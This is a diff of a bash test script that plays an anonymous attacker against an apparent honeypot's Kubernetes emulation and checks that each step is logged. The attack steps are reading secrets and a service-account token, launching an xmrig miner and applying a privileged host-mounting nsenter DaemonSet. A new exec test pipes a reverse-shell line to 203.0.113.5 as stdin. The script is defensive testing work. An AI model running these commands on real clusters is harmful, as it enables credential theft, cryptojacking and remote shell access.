@@ -1,5 +1,6 @@
 #!/usr/bin/env bash
-# kubectl (Debian's kubernetes-client) against the Kubernetes emulation over TLS, as an attacker
+# kubectl (Debian's kubernetes-client, 1.20; newer ones pass too: 1.32 writes objects as protobuf
+# and runs exec over WebSocket first, then SPDY) against the Kubernetes emulation over TLS, as an attacker
 # with anonymous access uses it: discovery, listing pods, secrets, nodes and namespaces in every
 # namespace, reading a secret, `auth can-i`, `run`, `create deployment`, `apply` of a privileged
 # host-mounting DaemonSet (with kubectl's openapi validation), the created objects shown back in
@@ -17,13 +18,8 @@ hp_start "$W" -- --kube 0 --kube-tls --flush-ms 20
 K=$(hp_port kube)
 export HOME="$W/home"; unset KUBECONFIG
 mkdir -p "$HOME"
-kc() { kubectl --server "https://127.0.0.1:$K" --insecure-skip-tls-verify --token=x --cache-dir "$W/cache" "$@"; }
+kc() { timeout 30 kubectl --server "https://127.0.0.1:$K" --insecure-skip-tls-verify --token=x --cache-dir "$W/cache" "$@"; }
 echo "kubectl: $(kubectl version --client 2>/dev/null | head -1)"
-minor=$(kubectl version --client -o json 2>/dev/null | jq -r '.clientVersion.minor' | tr -dc 0-9)
-if [ "${minor:-0}" -ge 30 ]; then
-  # newer kubectl writes objects as protobuf, which the emulation does not decode yet
-  echo "SKIP: kubectl 1.$minor on PATH; this test drives Debian's kubernetes-client (1.20)"; exit 77
-fi
 
 out=$(kc get pods -A) || fail "get pods -A: $out"
 echo "$out" | has -E '^kube-system +kube-apiserver-control-plane-1 +1/1 +Running' || fail "pods -A: $out"
@@ -66,8 +62,11 @@ kc get ds -n kube-system | has '^node-agent ' || fail "created daemonset not lis
 kc get deploy web2 -o jsonpath='{.spec.template.spec.containers[0].image}' | has -x 'nginx:1.25' || fail "created deployment"
 kc apply -f "$W/ds.yaml" | has 'node-agent configured' || fail "second apply"
 kc delete pod miner | has 'pod "miner" deleted' || fail "delete"
-# exec is recorded, the stream upgrade is not granted
-kc exec web-7d4b9c6f5d-x2lqp -- sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' >/dev/null 2>&1 || true
+# exec over SPDY/3.1: canned output, exit 0; with -i every stdin line is recorded and answered
+out=$(kc exec web-7d4b9c6f5d-x2lqp -- sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token') || fail "exec"
+echo "$out" | has '^eyJ' || fail "exec output: $out"
+out=$(printf 'id\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' | kc exec -i web-7d4b9c6f5d-x2lqp -- sh) || fail "exec -i"
+echo "$out" | has '^uid=0(root)' || fail "exec -i output: $out"
 hp_stop
 
 [ "$(hp_count '.eventid=="kube.discovery" and .request.path=="/apis"')" -ge 1 ] || fail "discovery not logged"
@@ -75,11 +74,14 @@ hp_stop
 [ "$(hp_count '.eventid=="kube.secret.list"')" -ge 1 ] || fail "secret list"
 [ "$(hp_count '.eventid=="kube.secret.get" and .request.name=="db-credentials"')" = 1 ] || fail "secret get"
 [ "$(hp_count '.eventid=="kube.auth.review" and .request.verb=="create" and .request.resource=="pods"')" = 1 ] || fail "can-i"
-[ "$(hp_count '.eventid=="kube.pod.create" and .request.images==["xmrig/xmrig:6.19"] and (.request.commands[0]|test("pool.example.net"))')" = 1 ] || fail "run event"
-[ "$(hp_count '.eventid=="kube.workload.create" and .request.kind=="daemonsets" and .request.privileged==true and .request.host_pid==true and .request.host_paths==["/"] and (.request.commands[0]|test("^nsenter -t 1"))')" = 1 ] \
+[ "$(hp_count '.eventid=="kube.pod.create" and .request.images==["xmrig/xmrig:6.19"] and ((.request.commands[0] // "")|test("pool.example.net"))')" = 1 ] || fail "run event"
+[ "$(hp_count '.eventid=="kube.workload.create" and .request.kind=="daemonsets" and .request.privileged==true and .request.host_pid==true and .request.host_paths==["/"] and ((.request.commands[0] // "")|test("^nsenter -t 1"))')" = 1 ] \
   || fail "daemonset event"
 [ "$(hp_count '.eventid=="kube.workload.create" and .request.kind=="deployments" and .request.images==["nginx:1.25"]')" = 1 ] || fail "deployment event"
 [ "$(hp_count '.eventid=="kube.pod.delete" and .request.name=="miner"')" = 1 ] || fail "delete event"
-[ "$(hp_count '.eventid=="kube.exec" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.command[0]=="sh" and (.request.command[2]|test("serviceaccount/token"))')" = 1 ] \
+# kubectl >= 1.29 asks for WebSocket first, then SPDY: one event per attempt
+[ "$(hp_count '.eventid=="kube.exec" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.command[0]=="sh" and ((.request.command[2] // "")|test("serviceaccount/token"))')" -ge 1 ] \
   || fail "exec event"
+[ "$(hp_count '.eventid=="kube.stdin" and .request.pod=="web-7d4b9c6f5d-x2lqp" and .request.line=="id"')" = 1 ] || fail "stdin line 1"
+[ "$(hp_count '.eventid=="kube.stdin" and ((.request.line // "")|test("/dev/tcp/203.0.113.5"))')" = 1 ] || fail "stdin line 2"
 echo "ok: kubectl $(hp_count '.service=="kube" and (.eventid|startswith("session.")|not)') steps logged"
